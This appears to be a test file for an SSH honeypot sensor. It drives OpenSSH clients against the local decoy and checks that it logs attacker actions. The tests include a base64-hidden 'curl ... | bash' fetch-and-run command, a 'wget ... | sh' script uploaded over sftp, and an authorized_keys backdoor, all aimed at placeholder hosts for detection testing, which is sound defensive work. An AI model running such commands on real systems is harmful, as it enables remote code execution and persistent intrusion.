@@ -1,0 +1,148 @@
+/** OpenSSH's own programs against the SSH decoy, from the first guess to a file that is left. */
+import assert from 'node:assert/strict';
+import { execFile, execFileSync } from 'node:child_process';
+import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { type Sensor, startSensor, without } from './sensor.ts';
+
+interface Ran {
+  readonly code: number;
+  readonly stdout: string;
+  readonly stderr: string;
+}
+
+describe('the SSH decoy', { skip: without('ssh', 'sftp', 'ssh-keygen') }, () => {
+  let sensor: Sensor;
+  let folder = '';
+  const options = ['-oStrictHostKeyChecking=no', '-oUserKnownHostsFile=/dev/null', '-oLogLevel=ERROR'];
+
+  before(async () => {
+    folder = mkdtempSync(join(tmpdir(), 'waterguard-ssh-'));
+    writeFileSync(join(folder, 'askpass'), '#!/bin/sh\necho "$WATERGUARD_TEST_PASSWORD"\n');
+    chmodSync(join(folder, 'askpass'), 0o700);
+    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(folder, 'key')]);
+    sensor = await startSensor(['ssh']);
+  });
+  after(async () => {
+    await sensor[Symbol.asyncDispose]();
+    rmSync(folder, { recursive: true, force: true });
+  });
+
+  function call(program: string, args: readonly string[], password = '', input?: string): Promise<Ran> {
+    return new Promise((resolve) => {
+      const env = {
+        PATH: process.env.PATH,
+        SSH_ASKPASS: join(folder, 'askpass'),
+        SSH_ASKPASS_REQUIRE: 'force',
+        WATERGUARD_TEST_PASSWORD: password,
+      };
+      const child = execFile(
+        program,
+        [...options, ...args],
+        { env, timeout: 60_000 },
+        (error, stdout, stderr) =>
+          resolve({
+            code: typeof error?.code === 'number' ? error.code : error === null ? 0 : -1,
+            stdout,
+            stderr,
+          }),
+      );
+      child.stdin?.end(input);
+    });
+  }
+
+  const ssh = (password: string, ...args: readonly string[]): Promise<Ran> =>
+    call(
+      'ssh',
+      [
+        '-oPubkeyAuthentication=no',
+        '-oNumberOfPasswordPrompts=1',
+        `-p${sensor.port('ssh')}`,
+        'root@127.0.0.1',
+        ...args,
+      ],
+      password,
+    );
+
+  it('a password as people choose them opens, one of chance does not, and both are taken down', async () => {
+    const refused = await ssh('kX9#vT2$qLw8Zp', 'id');
+    assert.equal(refused.code, 255);
+    assert.match(refused.stderr, /Permission denied \(publickey,password\)/);
+    const { code, stdout } = await ssh('admin123', 'echo in; exit 3');
+    assert.deepEqual([code, stdout], [3, 'in\n']);
+    const right = await sensor.event('ssh.auth', (one) => one.data?.accepted === true);
+    assert.deepEqual([right.data?.user, right.data?.password], ['root', 'admin123']);
+    assert.ok(right.attack.includes('T1078'));
+    await sensor.event(
+      'ssh.auth',
+      (one) => one.data?.accepted === false && one.data?.password === 'kX9#vT2$qLw8Zp',
+    );
+    assert.match(right.fp.ua ?? '', /^SSH-2\.0-OpenSSH_/);
+    assert.match(right.fp.hassh ?? '', /^[0-9a-f]{32}$/);
+  });
+
+  it('a command runs to its end, and its event has the addresses that it hides', async () => {
+    const hidden = Buffer.from('curl -fsSL http://192.0.2.44/init.sh | bash').toString('base64');
+    const { code, stdout } = await ssh(
+      'root',
+      `for i in 1 2 3; do echo $i; done; echo ${hidden} | base64 -d | sh; cat -`,
+    );
+    assert.equal(code, 0);
+    assert.match(stdout, /^1\n2\n3\n/);
+    const { norm, attack } = await sensor.event('ssh.exec', (one) => one.norm.hosts.length > 0);
+    assert.deepEqual(norm.hosts, ['192.0.2.44']);
+    assert.deepEqual(norm.urls, ['http://192.0.2.44/init.sh']);
+    assert.ok(attack.includes('T1105'), attack.join());
+    const result = await sensor.event('ssh.exec.result', (one) => one.norm.hosts.includes('192.0.2.44'));
+    assert.equal(result.data?.exitCode, 0);
+  });
+
+  it('a key that was planted opens afterwards, for whoever planted it', async () => {
+    const key = readFileSync(join(folder, 'key.pub'), 'utf8').trim();
+    const byKey = [
+      '-oPasswordAuthentication=no',
+      '-i',
+      join(folder, 'key'),
+      `-p${sensor.port('ssh')}`,
+      'root@127.0.0.1',
+    ];
+    assert.equal((await call('ssh', [...byKey, 'id'])).code, 255);
+    assert.equal((await ssh('root', `mkdir -p ~/.ssh && echo '${key}' >> ~/.ssh/authorized_keys`)).code, 0);
+    assert.deepEqual((await call('ssh', [...byKey, 'echo by key'])).stdout, 'by key\n');
+    const planted = await sensor.event('ssh.exec', (one) => one.attack.includes('T1098.004'));
+    assert.equal(planted.severity, 'high');
+    await sensor.event('ssh.auth', (one) => one.data?.method === 'publickey' && one.data?.accepted === true);
+  });
+
+  it('files are put, listed, read and removed by sftp, and kept as evidence', async () => {
+    const script = '#!/bin/sh\nwget -q http://192.0.2.45/second.sh -O- | sh\n';
+    writeFileSync(join(folder, 'first.sh'), script);
+    const batch = join(folder, 'batch');
+    writeFileSync(
+      batch,
+      `put ${folder}/first.sh /tmp/first.sh\nls -la /tmp\nget /tmp/first.sh ${folder}/back.sh\nmkdir /root/.x\nchmod 755 /tmp/first.sh\nrename /tmp/first.sh /root/.x/y\nrm /root/.x/y\nrmdir /root/.x\ndf /\nbye\n`,
+    );
+    const { code, stdout, stderr } = await call('sftp', [
+      ...['-i', join(folder, 'key'), `-P${sensor.port('ssh')}`, '-b', batch, 'root@127.0.0.1'],
+    ]);
+    assert.equal(code, 0, stderr);
+    assert.match(stdout, /-rw-r--r-- .* root +root +55 .*first\.sh/);
+    assert.equal(readFileSync(join(folder, 'back.sh'), 'utf8'), script);
+    const put = await sensor.event('ssh.file.put');
+    assert.equal(put.data?.path, '/tmp/first.sh');
+    assert.deepEqual(put.norm.hosts, ['192.0.2.45']);
+    assert.equal((put.data?.artefacts as { sha256: string }[])[0]?.sha256, put.raw.sha256);
+  });
+
+  it('connections through the decoy are asked for, taken down and refused', async () => {
+    const { code, stderr } = await call('ssh', [
+      ...['-i', join(folder, 'key'), `-p${sensor.port('ssh')}`, '-W', '198.51.100.7:25', 'root@127.0.0.1'],
+    ]);
+    assert.notEqual(code, 0);
+    assert.match(stderr, /forwarding failed|open failed/);
+    const forward = await sensor.event('ssh.forward');
+    assert.deepEqual([forward.data?.host, forward.data?.port], ['198.51.100.7', 25]);
+  });
+});
